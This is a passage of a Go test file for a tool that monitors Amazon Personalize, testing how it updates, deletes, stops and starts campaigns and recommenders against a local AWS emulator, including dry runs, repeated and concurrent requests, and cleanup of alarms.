package actions

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"maps"
	"net/http"
	"net/http/httptest"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/cloudwatch"
	cwtypes "github.com/aws/aws-sdk-go-v2/service/cloudwatch/types"
	"github.com/aws/aws-sdk-go-v2/service/personalize"
	"github.com/aws/aws-sdk-go-v2/service/personalize/types"

	"github.com/personalize-monitor/personalize-monitor/internal/alarms"
	"github.com/personalize-monitor/personalize-monitor/internal/audit"
	"github.com/personalize-monitor/personalize-monitor/internal/awsapi"
	"github.com/personalize-monitor/personalize-monitor/internal/dashboards"
	"github.com/personalize-monitor/personalize-monitor/internal/events"
	"github.com/personalize-monitor/personalize-monitor/internal/localaws"
	"github.com/personalize-monitor/personalize-monitor/internal/model"
	"github.com/personalize-monitor/personalize-monitor/internal/rules"
	"github.com/personalize-monitor/personalize-monitor/internal/traffic"
	"github.com/personalize-monitor/personalize-monitor/internal/writer"
	"github.com/personalize-monitor/personalize-monitor/test/awsbed"
)

const (
	home        = awsbed.Home
	other       = awsbed.Other
	testAccount = awsbed.Account
)

var (
	testTime  = awsbed.Time
	testTopic = awsbed.TopicIn(home)
	ctxAll    = context.Background()
)

// world is the AWS of a test.
type world struct{ *awsbed.World }

func worldAround(t *testing.T, clock *model.VirtualClock, server *localaws.Server, handler http.Handler) *world {
	t.Helper()
	return &world{awsbed.Around(t, clock, server, handler)}
}

// testOptions are the options of a process.
type testOptions struct {
	writer.Options
	Recheck    Rechecker
	AuditLog   audit.Log
	Rebuild    dashboards.RebuildHere
	Meter      writer.Meter
	MaxEndings int
}

func dryRun(o *testOptions) { o.DryRun = true }

// actor is a process of its own, with its log from debug level on.
func (w *world) actor(change ...func(*testOptions)) (*Actions, *awsbed.Log) {
	o := testOptions{}
	wr, log := w.Writer(func(base *writer.Options) {
		o.Options, o.Meter = *base, traffic.New(traffic.Options{Clients: base.Clients, Clock: w.Clock})
		for _, c := range change {
			c(&o)
		}
		*base = o.Options
	})
	return newActions(wr, o), log
}

func newActions(w *writer.Writer, o testOptions) *Actions {
	if o.AuditLog == nil {
		o.AuditLog = audit.ToLogger(w.Logger)
	}
	return New(Options{
		Writer: w, Owner: writer.NewOwner(w, writer.Identity{}), Budget: writer.NewBudget(w, o.Meter, o.MaxEndings),
		Alarms: alarms.New(w), Rebuilder: dashboards.NewRebuilder(w, o.Rebuild), Rechecker: o.Recheck, AuditLog: o.AuditLog,
	})
}

func (w *world) alarmNames(region string) []string {
	w.T.Helper()
	list, err := alarms.New(writer.New(writer.Options{Clients: w.Raw})).List(ctxAll, region)
	w.Must(err)
	var names []string
	for _, a := range list {
		names = append(names, a.Name)
	}
	slices.Sort(names)
	return names
}

// recheckFunc is a function as a Rechecker.
type recheckFunc func(context.Context, events.Request) (rules.Decision, error)

func (f recheckFunc) Recheck(ctx context.Context, req events.Request) (rules.Decision, error) {
	return f(ctx, req)
}

func (f recheckFunc) RecheckSchedule(ctx context.Context, req events.Request, _ map[string]string) (rules.Decision, error) {
	return f(ctx, req)
}

var alarmParams = alarms.Params{LowUtilization: true, Threshold: 100, Idle: true, IdleHours: 24}

const day = 24 * time.Hour

// shop is an estate in another region than the deployment's, with a resource of each
// sort that actions meet.
func shop() localaws.Estate {
	busy := localaws.EstateTraffic{Shape: "constant", TPS: 3}
	campaign := func(name string, e localaws.EstateCampaign) localaws.EstateCampaign {
		e.Name, e.Recipe, e.Traffic = name, "aws-user-personalization-v2", busy
		return e
	}
	recommender := func(name string, e localaws.EstateRecommender) localaws.EstateRecommender {
		e.Name, e.Recipe = name, "aws-ecomm-recommended-for-you"
		return e
	}
	updating := localaws.EstateEndpoint{Update: &localaws.EstateUpdate{Status: "CREATE IN_PROGRESS", MinTPS: 9, Age: time.Minute}}
	return localaws.Estate{Account: testAccount, Regions: []localaws.EstateRegion{{Name: other, DatasetGroups: []localaws.EstateDatasetGroup{{
		Name: "shop", Domain: "ECOMMERCE",
		Campaigns: []localaws.EstateCampaign{
			campaign("home", localaws.EstateCampaign{MinTPS: 10, EstateEndpoint: localaws.EstateEndpoint{Metadata: true}}),
			campaign("updating", localaws.EstateCampaign{MinTPS: 5, EstateEndpoint: updating}),
			campaign("leaving", localaws.EstateCampaign{EstateEndpoint: localaws.EstateEndpoint{Status: "DELETE PENDING"}}),
		},
		Recommenders: []localaws.EstateRecommender{
			recommender("for-you", localaws.EstateRecommender{
				MinRPS: 8, ExcludedColumns: map[string][]string{"ITEMS": {"PRICE"}},
				EstateEndpoint: localaws.EstateEndpoint{Metadata: true, ItemExploration: map[string]string{"explorationWeight": "0.4"}},
			}),
			recommender("resting", localaws.EstateRecommender{EstateEndpoint: localaws.EstateEndpoint{Status: "INACTIVE"}}),
			recommender("stopping", localaws.EstateRecommender{EstateEndpoint: localaws.EstateEndpoint{Status: "STOP IN_PROGRESS"}}),
			recommender("starting", localaws.EstateRecommender{EstateEndpoint: localaws.EstateEndpoint{Status: "START PENDING"}}),
		},
	}}}}}
}

func newShop(t *testing.T) *world {
	t.Helper()
	clock := model.NewVirtualClock(testTime)
	server, err := localaws.New(shop(), localaws.WithClock(clock))
	if err != nil {
		t.Fatal(err)
	}
	w := worldAround(t, clock, server, server)
	w.CreateTopic(other) // in whose tags automatic actions are counted
	w.Server.ResetCalls()
	return w
}

// ask is a person's request about a resource of the shop.
func ask(t *testing.T, resource string, minimum int) events.Request {
	t.Helper()
	req, err := events.NewRequest("arn:aws:personalize:" + other + ":" + testAccount + ":" + resource)
	if err != nil {
		t.Fatal(err)
	}
	req.NewMinTPS = minimum
	return req
}

// actions are the writes about resources and of events, by operation, without the counts of
// budgets.
func (w *world) actions() map[string]int {
	calls := w.Writes()
	for _, op := range []string{"personalize.DescribeCampaign", "personalize.DescribeRecommender", "sns.TagResource", "sns.UntagResource"} {
		delete(calls, op)
	}
	return calls
}

// sent are the events on the bus, "type: detail".
func (w *world) sent() []string {
	var list []string
	for _, e := range w.Server.Events() {
		if e.Region != home {
			w.T.Errorf("an event in %s", e.Region)
		}
		list = append(list, e.DetailType+": "+withoutAudit(w.T, e.Detail))
	}
	return list
}

// withoutAudit leaves the audit record out of a detail, which is at its end.
func withoutAudit(t *testing.T, detail []byte) string {
	t.Helper()
	var keys struct{ Audit json.RawMessage }
	if err := json.Unmarshal(detail, &keys); err != nil {
		t.Fatal(err)
	}
	if keys.Audit == nil {
		return string(detail)
	}
	if _, err := events.DecodeAudit(detail); err != nil {
		t.Errorf("audit record %s: %v", keys.Audit, err)
	}
	return strings.Replace(string(detail), `,"Audit":`+string(keys.Audit), "", 1)
}

// campaign is the campaign home.
func (w *world) campaign() *types.Campaign {
	w.T.Helper()
	out, err := w.Raw.Personalize(other).DescribeCampaign(ctxAll, &personalize.DescribeCampaignInput{CampaignArn: aws.String(ask(w.T, "campaign/home", 0).ARN.String())})
	w.Must(err)
	return out.Campaign
}

// recommender is the recommender for-you.
func (w *world) recommender() *types.Recommender {
	w.T.Helper()
	out, err := w.Raw.Personalize(other).DescribeRecommender(ctxAll, &personalize.DescribeRecommenderInput{RecommenderArn: aws.String(ask(w.T, "recommender/for-you", 0).ARN.String())})
	w.Must(err)
	return out.Recommender
}

func (w *world) wantAnswer(n Answer, err error, outcome writer.Outcome, sentence string) {
	w.T.Helper()
	w.Must(err)
	w.Must(n.Err())
	if n.Outcome != outcome || !strings.Contains(n.Sentence, sentence) || strings.Count(n.Sentence, "\n") > 0 || !strings.HasSuffix(n.Sentence, ".") {
		w.T.Errorf("%s: %q, want %s: %q", n.Outcome, n.Sentence, outcome, sentence)
	}
}

func TestUpdateCampaignChangesTheMinimumAlone(t *testing.T) {
	w := newShop(t)
	a, _ := w.actor()
	before := w.campaign()
	w.Writes()
	req := ask(t, "campaign/home", 30)
	req.Reason = "sale"
	n, err := a.Do(ctxAll, model.ActionUpdate, req)
	w.wantAnswer(n, err, writer.Done, "Campaign "+req.ARN.String()+" is being updated from 10 to 30 TPS.")
	w.wantActions(map[string]int{"personalize.UpdateCampaign": 1, "events.PutEvents": 1})
	w.wantSent(`PersonalizeCampaignMinProvisionedTPSUpdated: {"ARN":"` + req.ARN.String() + `","NewMinTPS":30,"Reason":"sale"}`)
	w.Clock.Advance(time.Hour)
	after := w.campaign()
	if *after.MinProvisionedTPS != 30 || !reflect.DeepEqual(after.CampaignConfig, before.CampaignConfig) || *after.SolutionVersionArn != *before.SolutionVersionArn {
		t.Errorf("became %+v", after)
	}
}

func (w *world) wantActions(want map[string]int) {
	w.T.Helper()
	if got := w.actions(); !reflect.DeepEqual(got, want) {
		w.T.Errorf("writes %v, want %v", got, want)
	}
}

func (w *world) wantSent(want ...string) {
	w.T.Helper()
	if got := w.sent(); !slices.Equal(got, want) {
		w.T.Errorf("sent %q, want %q", got, want)
	}
}

func TestUpdateRecommenderKeepsItsOtherSettings(t *testing.T) {
	w := newShop(t)
	a, _ := w.actor()
	want := *w.recommender().RecommenderConfig
	want.MinRecommendationRequestsPerSecond = aws.Int32(5)
	w.Writes()
	req := ask(t, "recommender/for-you", 5)
	n, err := a.Do(ctxAll, model.ActionUpdate, req)
	w.wantAnswer(n, err, writer.Done, "Recommender "+req.ARN.String()+" is being updated from 8 to 5 RPS.")
	w.wantActions(map[string]int{"personalize.UpdateRecommender": 1, "events.PutEvents": 1})
	w.wantSent(`PersonalizeRecommenderMinRecommendationRPSUpdated: {"ARN":"` + req.ARN.String() + `","NewMinTPS":5,"Reason":"requested, no reason given"}`)
	w.Clock.Advance(time.Hour)
	if got := *w.recommender().RecommenderConfig; !reflect.DeepEqual(got, want) {
		t.Errorf("became %+v, want %+v", got, want)
	}
}

// A setting that this build does not know would be reset by an update.
func TestUpdateRecommenderRefusesToDropSettings(t *testing.T) {
	for name, tt := range map[string]struct{ config, want string }{
		"a new setting":        {`"warmUp":{"minutes":5}`, "(warmUp)"},
		"a new nested setting": {`"trainingDataConfig":{"excludedDatasetColumns":{"ITEMS":["PRICE"]},"sampling":"half"}`, "(trainingDataConfig.sampling)"},
		"several":              {`"b":1,"a":false`, "(a, b)"},
		"spelt otherwise":      {`"MinRecommendationRequestsPerSecond":9`, "(MinRecommendationRequestsPerSecond)"},
		"without a value":      {`"warmUp":null`, ""},
		"all that is known": {
			`"itemExplorationConfig":{"explorationItemAgeCutOff":"30"},"enableMetadataWithRecommendations":true,` +
				`"trainingDataConfig":{"includedDatasetColumns":{"ITEMS":["PRICE"]}}`, "",
		},
	} {
		t.Run(name, func(t *testing.T) {
			plain := newShop(t)
			w := worldAround(t, plain.Clock, plain.Server, injecting(plain.Server, tt.config))
			a, _ := w.actor()
			w.Writes()
			n, err := a.Do(ctxAll, model.ActionUpdate, ask(t, "recommender/for-you", 5))
			if tt.want == "" {
				w.wantAnswer(n, err, writer.Done, "is being updated from 8 to 5 RPS")
				return
			}
			if err == nil || !strings.Contains(err.Error(), "settings that this version does not know "+tt.want) {
				t.Errorf("error %v, want %q", err, tt.want)
			}
			w.wantActions(map[string]int{})
			n, err = a.Do(ctxAll, model.ActionStop, ask(t, "recommender/for-you", 0)) // drops nothing
			w.wantAnswer(n, err, writer.Done, "is being stopped")
		})
	}
}

// injecting adds settings to the recommender configuration in descriptions.
func injecting(server http.Handler, config string) http.Handler {
	return http.HandlerFunc(func(out http.ResponseWriter, r *http.Request) {
		if r.Header.Get("X-Amz-Target") != "AmazonPersonalize.DescribeRecommender" {
			server.ServeHTTP(out, r)
			return
		}
		recorder := httptest.NewRecorder()
		server.ServeHTTP(recorder, r)
		var answer map[string]map[string]any
		var settings map[string]any
		if err := errors.Join(json.Unmarshal(recorder.Body.Bytes(), &answer), json.Unmarshal([]byte("{"+config+"}"), &settings)); err != nil {
			panic(err)
		}
		maps.Copy(answer["recommender"]["recommenderConfig"].(map[string]any), settings)
		body, err := json.Marshal(answer)
		if err != nil {
			panic(err)
		}
		out.Header().Set("Content-Type", "application/x-amz-json-1.1")
		out.Header().Set("Content-Length", strconv.Itoa(len(body)))
		_, _ = out.Write(body)
	})
}

// What the SDK sends of a full configuration holds the same members as what is known.
func TestKnownSettingsAreThoseOfTheWire(t *testing.T) {
	known := reflect.TypeFor[types.RecommenderConfig]()
	config := settingsOf(t, `{"recommender":{"recommenderConfig":{"enableMetadataWithRecommendations":true,
		"itemExplorationConfig":{"x":"y"},"minRecommendationRequestsPerSecond":1,
		"trainingDataConfig":{"excludedDatasetColumns":{"A":["b"]},"includedDatasetColumns":{"A":["b"]}}}}}`)
	if unknown, err := unknownSettings(config, known); err != nil || len(unknown) > 0 {
		t.Errorf("unknown %v, %v", unknown, err)
	}
	if n := known.NumField(); n != 5 {
		t.Errorf("the SDK knows %d members now, one of which is its own; add the new ones above", n-1)
	}
	if _, err := rawIn([]byte("{"), "campaign"); err == nil {
		t.Error("no error for an answer that cannot be read")
	}
	if unknown, _ := unknownSettings(settingsOf(t, `{"recommender":{"recommenderConfig":{"":1,"é":2}}}`), known); len(unknown) != 2 {
		t.Errorf("unknown %q", unknown)
	}
	for _, none := range []string{`{"recommender":{"recommenderConfig":null}}`, `{"recommender":null}`, `{}`} {
		if config := settingsOf(t, none); config != nil {
			t.Errorf("settings %s", config)
		}
	}
}

func settingsOf(t *testing.T, description string) json.RawMessage {
	t.Helper()
	config, err := rawIn([]byte(description), "recommender", "recommenderConfig")
	if err != nil {
		t.Fatal(err)
	}
	return config
}

// makeAlarms makes both alarms of resources of the shop, as a cycle would.
func (w *world) makeAlarms(a *Actions, kind model.Kind, names ...string) {
	w.T.Helper()
	var resources []model.Resource
	for _, name := range names {
		resources = append(resources, model.Resource{
			ARN: ask(w.T, string(kind)+"/"+name, 0).ARN, Kind: kind, Name: name,
			Recipe: "aws-user-personalization", Status: model.StatusActive, MinTPS: 5, Created: testTime.Add(-30 * day),
		})
	}
	topic := testTopic
	topic = topic.WithRegion(other)
	var wanted []alarms.Desired
	for _, r := range resources {
		wanted = append(wanted, alarms.DesiredFor(r, rules.Throughput{Readable: true}, topic, alarmParams, w.Clock.Now())...)
	}
	_, problems := a.o.Alarms.Reconcile(ctxAll, alarms.ReconcileInput{Region: other, Changes: alarms.Diff(wanted, nil, nil, w.Clock.Now())})
	w.NoProblems(problems)
}

func TestDeleteCampaign(t *testing.T) {
	w := newShop(t)
	a, _ := w.actor()
	w.makeAlarms(a, model.Campaign, "home", "updating")
	w.makeAlarms(a, model.Recommender, "home")
	w.Writes()
	req := ask(t, "campaign/home", 0)
	n, err := a.Do(ctxAll, model.ActionDelete, req)
	w.wantAnswer(n, err, writer.Done, "Campaign "+req.ARN.String()+" is being deleted; alarms removed: 2.")
	w.wantActions(map[string]int{"personalize.DeleteCampaign": 1, "cloudwatch.DeleteAlarms": 1, "events.PutEvents": 2})
	w.wantSent(
		`PersonalizeCampaignDeleted: {"ARN":"`+req.ARN.String()+`","Reason":"requested, no reason given"}`,
		`BuildPersonalizeMonitorDashboard: {"ARN":"`+req.ARN.String()+`","Reason":"campaign home was deleted"}`,
	)
	for _, e := range w.Server.Events() {
		if !slices.Equal(e.Resources, []string{req.ARN.String()}) {
			t.Errorf("resources %v", e.Resources)
		}
	}
	if len(n.Events) != 2 || n.AlarmsRemoved != 2 {
		t.Errorf("answer %+v", n)
	}
	if got := w.alarmNames(other); len(got) != 4 || slices.Contains(got, "PersonalizeMonitor-IdleCampaign-home") {
		t.Errorf("alarms %v", got)
	}
}

func TestStopRecommenderAndStartItAgain(t *testing.T) {
	w := newShop(t)
	a, _ := w.actor()
	w.makeAlarms(a, model.Recommender, "for-you")
	w.Writes()
	req := ask(t, "recommender/for-you", 0)
	req.Reason = strings.Repeat("ü", 3*maxReason)
	n, err := a.Do(ctxAll, model.ActionStop, req)
	w.wantAnswer(n, err, writer.Done, "Recommender "+req.ARN.String()+" is being stopped; alarms removed: 2.")
	w.wantActions(map[string]int{"personalize.StopRecommender": 1, "cloudwatch.DeleteAlarms": 1, "events.PutEvents": 2})
	if sent := w.sent(); len(sent) != 2 || !strings.HasPrefix(sent[0], "PersonalizeRecommenderStopped: ") || len(sent[0]) > 3*maxReason {
		t.Errorf("sent %q", sent)
	}
	if _, err := a.Do(ctxAll, model.ActionStart, req); err == nil || !strings.Contains(err.Error(), "its status is STOP PENDING: ResourceInUseException") {
		t.Errorf("started while stopping: %v", err)
	}
	w.Clock.Advance(time.Hour)
	w.Writes()
	n, err = a.Do(ctxAll, model.ActionStart, req)
	w.wantAnswer(n, err, writer.Done, "is being started.")
	w.wantActions(map[string]int{"personalize.StartRecommender": 1})
	n, err = a.Do(ctxAll, model.ActionStart, req)
	w.wantAnswer(n, err, writer.AlreadySo, "is being started already (START PENDING).")
	w.Clock.Advance(time.Hour)
	n, err = a.Do(ctxAll, model.ActionStart, req)
	w.wantAnswer(n, err, writer.AlreadySo, "is running already.")
	w.wantActions(map[string]int{})
}

// Whatever the state someone or an earlier delivery has left, nothing is written twice.
func TestWhatIsDoneAlreadyIsASuccess(t *testing.T) {
	tests := []struct {
		action   model.Action
		resource string
		minimum  int
		want     string
	}{
		{model.ActionUpdate, "campaign/home", 10, "has a minimum of 10 TPS already"},
		{model.ActionUpdate, "campaign/updating", 9, "is being updated to 9 TPS already"},
		{model.ActionUpdate, "campaign/leaving", 9, "is being deleted already (DELETE PENDING)"},
		{model.ActionUpdate, "campaign/nobody", 9, "does not exist (any more)"},
		{model.ActionUpdate, "recommender/for-you", 8, "has a minimum of 8 RPS already"},
		{model.ActionUpdate, "recommender/nobody", 8, "does not exist (any more)"},
		{model.ActionDelete, "campaign/leaving", 0, "is being deleted already"},
		{model.ActionDelete, "campaign/nobody", 0, "does not exist (any more)"},
		{model.ActionStop, "recommender/resting", 0, "is stopped already"},
		{model.ActionStop, "recommender/stopping", 0, "is being stopped already (STOP IN_PROGRESS)"},
		{model.ActionStop, "recommender/nobody", 0, "does not exist (any more)"},
		{model.ActionStart, "recommender/starting", 0, "is being started already"},
		{model.ActionStart, "recommender/for-you", 0, "is running already"},
	}
	w := newShop(t)
	a, _ := w.actor()
	for _, tt := range tests {
		t.Run(string(tt.action)+" "+tt.resource, func(t *testing.T) {
			n, err := a.Do(ctxAll, tt.action, ask(t, tt.resource, tt.minimum))
			w.wantAnswer(n, err, writer.AlreadySo, "Nothing to do: "+strings.Split(tt.resource, "/")[0])
			w.wantAnswer(n, err, writer.AlreadySo, tt.want)
			w.wantActions(map[string]int{})
		})
	}
	w.wantSent()
}

func TestActionsTwiceDoWhatOnceDoes(t *testing.T) {
	for _, tt := range []struct {
		action   model.Action
		resource string
		minimum  int
		first    string
	}{
		{model.ActionUpdate, "campaign/home", 30, "is being updated from 10 to 30"},
		{model.ActionUpdate, "recommender/for-you", 4, "is being updated from 8 to 4"},
		{model.ActionDelete, "campaign/home", 0, "is being deleted"},
		{model.ActionStop, "recommender/for-you", 0, "is being stopped"},
	} {
		t.Run(string(tt.action)+" "+tt.resource, func(t *testing.T) {
			w := newShop(t)
			a, _ := w.actor()
			req := ask(t, tt.resource, tt.minimum)
			n, err := a.Do(ctxAll, tt.action, req)
			w.wantAnswer(n, err, writer.Done, tt.first)
			sent := w.sent()
			for _, wait := range []time.Duration{0, 90 * time.Second, time.Hour} { // pending, in progress, over
				w.Clock.Advance(wait)
				w.Writes()
				n, err = a.Do(ctxAll, tt.action, req)
				w.wantAnswer(n, err, writer.AlreadySo, "Nothing to do: ")
				w.wantActions(map[string]int{})
			}
			w.wantSent(sent...)
		})
	}
}

// Two deliveries at the same moment: both look, then both call.
func TestAnActionOvertakenByAnother(t *testing.T) {
	for _, tt := range []struct {
		action   model.Action
		resource string
		minimum  int
		target   string // before this call is carried out, another of the kind was
		want     string
	}{
		{model.ActionUpdate, "campaign/home", 30, "UpdateCampaign", "is being updated to 30 TPS already"},
		{model.ActionDelete, "campaign/home", 0, "DeleteCampaign", "is being deleted already"},
		{model.ActionStop, "recommender/for-you", 0, "StopRecommender", "is being stopped already"},
	} {
		t.Run(string(tt.action), func(t *testing.T) {
			plain := newShop(t)
			w := worldAround(t, plain.Clock, plain.Server, http.HandlerFunc(func(out http.ResponseWriter, r *http.Request) {
				if r.Header.Get("X-Amz-Target") == "AmazonPersonalize."+tt.target {
					body, _ := io.ReadAll(r.Body)
					again := r.Clone(r.Context())
					again.Body = io.NopCloser(bytes.NewReader(body))
					plain.Server.ServeHTTP(httptest.NewRecorder(), again)
					r.Body = io.NopCloser(bytes.NewReader(body))
				}
				plain.Server.ServeHTTP(out, r)
			}))
			a, _ := w.actor()
			n, err := a.Do(ctxAll, tt.action, ask(t, tt.resource, tt.minimum))
			w.wantAnswer(n, err, writer.AlreadySo, tt.want)
			w.wantSent()
		})
	}
}

func TestAPersonsRequestThatCannotBeObeyedNowIsAnError(t *testing.T) {
	w := newShop(t)
	a, _ := w.actor()
	for _, tt := range []struct {
		action   model.Action
		resource string
		minimum  int
		want     string
	}{
		{model.ActionUpdate, "campaign/updating", 12, "an update to 9 is in progress (CREATE IN_PROGRESS): ResourceInUseException"},
		{model.ActionDelete, "campaign/updating", 0, "an update to 9 is in progress (CREATE IN_PROGRESS): ResourceInUseException"},
		{model.ActionUpdate, "recommender/resting", 12, "its status is INACTIVE: ResourceInUseException"},
		{model.ActionStop, "recommender/starting", 0, "its status is START PENDING: ResourceInUseException"},
		{model.ActionStart, "recommender/nobody", 0, "it does not exist"},
		{model.ActionDelete, "recommender/for-you", 0, "is a recommender"},
		{model.ActionStop, "campaign/home", 0, "is a campaign"},
		{model.ActionStart, "campaign/home", 0, "is a campaign"},
		{model.ActionUpdate, "campaign/home", 0, `"NewMinTPS" is missing`},
		{"explode", "campaign/home", 0, `there is no action "explode"`},
	} {
		n, err := a.Do(ctxAll, tt.action, ask(t, tt.resource, tt.minimum))
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s %s: %+v, error %v, want %q", tt.action, tt.resource, n, err, tt.want)
		}
	}
	w.wantSent()
	elsewhere := ask(t, "campaign/home", 5)
	elsewhere.ARN = model.NewARN("aws-cn", "personalize", "cn-north-1", elsewhere.ARN.Account(), elsewhere.ARN.Resource())
	w.Writes()
	if _, err := a.Do(ctxAll, model.ActionUpdate, elsewhere); err == nil || !strings.Contains(err.Error(), "another partition") {
		t.Errorf("error %v", err)
	}
	if calls := w.Server.Calls(); len(calls) > 0 {
		t.Errorf("calls %v", calls)
	}
	foreign := ask(t, "campaign/home", 5)
	foreign.ARN = model.NewARN("aws", "personalize", foreign.ARN.Region(), "999999999999", foreign.ARN.Resource())
	if _, err := a.Do(ctxAll, model.ActionUpdate, foreign); err == nil || !strings.Contains(err.Error(), "belongs to the account 999999999999, the credentials to 123456789012") {
		t.Errorf("error %v", err)
	}
}

func TestRefusedCallsAreErrorsAndChangeNothingElse(t *testing.T) {
	for _, op := range []string{"DescribeCampaign", "DeleteCampaign"} {
		w := newShop(t)
		a, _ := w.actor()
		w.makeAlarms(a, model.Campaign, "home")
		w.Server.AddFault(localaws.Fault{Service: "personalize", Operation: op, Code: "AccessDeniedException", Message: "not you"})
		_, err := a.Do(ctxAll, model.ActionDelete, ask(t, "campaign/home", 0))
		if err == nil || !strings.Contains(err.Error(), "delete-campaign arn:") || !strings.Contains(err.Error(), "AccessDeniedException: not you") {
			t.Errorf("%s: %v", op, err)
		}
		w.wantSent()
		if len(w.alarmNames(other)) != 2 {
			t.Errorf("%s: alarms are gone", op)
		}
	}
}

func TestAPersonsAlarmsStay(t *testing.T) {
	w := newShop(t)
	a, _ := w.actor()
	w.makeAlarms(a, model.Campaign, "home")
	put := func(name string) {
		_, err := w.Raw.CloudWatch(other).PutMetricAlarm(ctxAll, &cloudwatch.PutMetricAlarmInput{
			AlarmName:  aws.String(name),
			Dimensions: []cwtypes.Dimension{{Name: aws.String("CampaignArn"), Value: aws.String(ask(t, "campaign/home", 0).ARN.String())}},
			Namespace:  aws.String("AWS/Personalize"), MetricName: aws.String("GetRecommendations"),
			Statistic: "Sum", Period: aws.Int32(300), EvaluationPeriods: aws.Int32(1), Threshold: aws.Float64(0), ComparisonOperator: "LessThanOrEqualToThreshold",
		})
		w.Must(err)
	}
	// A person's own, under our prefix, and one that took the place of ours.
	put("PersonalizeMonitor-Special-home")
	_, err := w.Raw.CloudWatch(other).DeleteAlarms(ctxAll, &cloudwatch.DeleteAlarmsInput{AlarmNames: []string{"PersonalizeMonitor-IdleCampaign-home"}})
	w.Must(err)
	put("PersonalizeMonitor-IdleCampaign-home")
	n, err := a.Do(ctxAll, model.ActionDelete, ask(t, "campaign/home", 0))
	w.wantAnswer(n, err, writer.Done, "alarms removed: 1.")
	want := []string{"PersonalizeMonitor-IdleCampaign-home", "PersonalizeMonitor-Special-home"}
	if got := w.alarmNames(other); !slices.Equal(got, want) {
		t.Errorf("alarms %v, want %v", got, want)
	}
}

// What follows an accepted call is tried, whatever becomes of the rest.
func TestEachPartOfWhatFollowsIsTried(t *testing.T) {
	// The notification is sent twice: the clock of the embedded AWS is not that of the signatures.
	notification := localaws.Fault{Service: "events", Operation: "PutEvents", Times: 2, Code: "AccessDeniedException"}
	for _, tt := range []struct {
		name    string
		fault   localaws.Fault
		op      string
		removed int
		sent    []string
	}{
		{"the notification fails", notification, "PutEvents", 2, []string{"BuildPersonalizeMonitorDashboard"}},
		{
			"the alarms cannot be listed",
			localaws.Fault{Service: "cloudwatch", Operation: "DescribeAlarms", Code: "AccessDenied"},
			"DescribeAlarms", 0,
			[]string{"PersonalizeRecommenderStopped", "BuildPersonalizeMonitorDashboard"},
		},
		{
			"the alarms cannot be deleted",
			localaws.Fault{Service: "cloudwatch", Operation: "DeleteAlarms", Code: "AccessDenied"},
			"DeleteAlarms", 0,
			[]string{"PersonalizeRecommenderStopped", "BuildPersonalizeMonitorDashboard"},
		},
		{
			"the rebuilding fails",
			localaws.Fault{Service: "events", Operation: "PutEvents", Skip: 1, Code: "AccessDeniedException"},
			"PutEvents", 2,
			[]string{"PersonalizeRecommenderStopped"},
		},
	} {
		t.Run(tt.name, func(t *testing.T) {
			w := newShop(t)
			a, _ := w.actor()
			w.makeAlarms(a, model.Recommender, "for-you")
			w.Server.AddFault(tt.fault)
			n, err := a.Do(ctxAll, model.ActionStop, ask(t, "recommender/for-you", 0))
			w.Must(err)
			if n.Outcome != writer.Done || !strings.Contains(n.Sentence, "is being stopped") || !strings.Contains(n.Sentence, "failures after that: 1") ||
				len(n.Problems) != 1 || n.Problems[0].Operation != tt.op || n.AlarmsRemoved != tt.removed {
				t.Errorf("answer %+v", n)
			}
			if err := n.Err(); err == nil || !strings.Contains(err.Error(), "AccessDenied") {
				t.Errorf("error %v", err)
			}
			var types []string
			for _, e := range w.Server.Events() {
				types = append(types, e.DetailType)
			}
			if !slices.Equal(types, tt.sent) {
				t.Errorf("sent %v, want %v", types, tt.sent)
			}
		})
	}
}

func TestADryRunOfActionsWritesNothing(t *testing.T) {
	w := newShop(t)
	before, _ := w.actor()
	w.makeAlarms(before, model.Campaign, "home")
	a, log := w.actor(dryRun)
	w.Writes()
	for _, tt := range []struct {
		action   model.Action
		resource string
		want     string
		events   int
	}{
		{model.ActionUpdate, "campaign/home", "would be updated from 10 to 3 TPS.", 1},
		{model.ActionUpdate, "recommender/for-you", "would be updated from 8 to 3 RPS.", 1},
		{model.ActionDelete, "campaign/home", "would be deleted; alarms that would be removed: 2.", 2},
		{model.ActionStop, "recommender/for-you", "would be stopped.", 2},
		{model.ActionStart, "recommender/resting", "would be started.", 0},
	} {
		n, err := a.Do(ctxAll, tt.action, ask(t, tt.resource, 3))
		w.wantAnswer(n, err, writer.DryRun, tt.want)
		if len(n.Events) != tt.events {
			t.Errorf("%s: events %v", tt.action, n.Events)
		}
	}
	w.wantActions(map[string]int{})
	if log.Count("dry run, would write", "op=DeleteCampaign", "have it deleted: requested, no reason given") != 1 {
		t.Errorf("log:\n%s", log.String())
	}
}

// automatic is a request that the monitor itself sent, about a resource of the shop.
func automatic(t *testing.T, action model.Action, resource string, from, to int) events.Request {
	req := ask(t, resource, to)
	switch action {
	case model.ActionUpdate:
		req.DetailType, req.CurrentMinTPS = events.UpdateType(req.Kind), from
	default:
		req.DetailType, req.IdleThresholdHours = events.IdleType(req.Kind), 24
	}
	req.Reason = "decided"
	return req
}

func TestAutomaticEventsAreCheckedAgain(t *testing.T) {
	decision := func(action rules.Verdict, minimum, next int) rules.Decision {
		return rules.Decision{Verdict: action, Marker: true, NewMinTPS: next, Reason: "because of the numbers", Resource: model.Resource{MinTPS: minimum}}
	}
	update, del, stop := model.ActionUpdate, model.ActionDelete, model.ActionStop
	tests := []struct {
		name     string
		action   model.Action
		resource string
		from, to int
		decision rules.Decision
		err      error
		want     string // part of why nothing was done; empty if it was done
		asked    int    // how often it was decided again
	}{
		{name: "a step-down still true", action: update, resource: "campaign/home", from: 10, to: 7, decision: decision(rules.StepDown, 10, 7), asked: 1},
		{name: "one that is more careful than need be now", action: update, resource: "campaign/home", from: 10, to: 8, decision: decision(rules.StepDown, 10, 7), asked: 1},
		{name: "one that goes too far now", action: update, resource: "campaign/home", from: 10, to: 7, decision: decision(rules.StepDown, 10, 9), asked: 1, want: "7 TPS is not what it would be set to now (because of the numbers)"},
		{name: "a step up", action: update, resource: "campaign/home", from: 10, to: 12, decision: decision(rules.StepDown, 10, 7), asked: 1, want: "12 TPS is not what"},
		{name: "nothing to step down any more", action: update, resource: "campaign/home", from: 10, to: 7, decision: decision(rules.None, 10, 0), asked: 1, want: "no longer holds: because of the numbers"},
